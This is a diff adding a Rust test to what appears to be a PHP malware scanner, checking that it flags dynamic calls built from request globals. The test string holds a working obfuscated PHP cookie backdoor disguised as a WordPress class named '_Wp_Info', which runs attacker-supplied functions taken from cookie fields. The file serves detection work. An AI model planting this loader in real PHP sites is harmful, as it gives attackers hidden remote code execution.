@@ -826,6 +826,26 @@ fn a_global_named_by_decoded_text_is_the_requests() {
 }
 
 #[test]
+fn a_global_named_by_a_piece_cut_from_a_constant_is_the_requests() {
+    // fresh15's fake core class: `$GLOBALS[substr($this->data, 6)]` is `$_COOKIE` (the first six
+    // bytes of the class's constant are indexes), and the cookie's fields are called in a chain.
+    let s = "<?php class _Wp_Info { const D = \"\\x2D\\x4F\\x29\\x1E\\x2E\\x18_COOKIE\"; private $data; \
+             function __construct($d = null) { $this->data = is_null($d) ? _Wp_Info::D : $d; $this->run(); } \
+             function run() { $p = $GLOBALS[substr($this->data, 6)]; $f = array(); \
+             for ($i = 0; $i < 5; $i++) $f[$i] = $p[ord($this->data[$i])]; $f[1] .= $f[2]; \
+             $f[3] = $f[1]($f[3]); $s = $f[3]($f[0], $f[1]($f[4])); return $s(); } } $o = new _Wp_Info;";
+    assert!(sinks(s).contains(&(Why::DynamicCallFromInput, Danger::Critical)), "{:?}", sinks(s));
+    // Near-misses: a global named by a plain variable or a case change, only read.
+    for s in [
+        "<?php function get($name) { $v = $GLOBALS[$name]; return $v['x']($v['y']); }",
+        "<?php function get($name) { $v = $GLOBALS[strtolower($name)]; return $v['x']($v['y']); }",
+        "<?php function get($name) { $v = $GLOBALS[substr($name, 1)]; echo $v; }",
+    ] {
+        assert!(sinks(s).is_empty(), "{s}: {:?}", sinks(s));
+    }
+}
+
+#[test]
 fn decoded_data_decrypted_by_an_object_and_run_is_hidden_code() {
     // A plugin file replaced by a loader: a payload kept URL-encoded elsewhere, decrypted by a
     // class of its own (XXTEA keyed by the visitor's browser), then run.
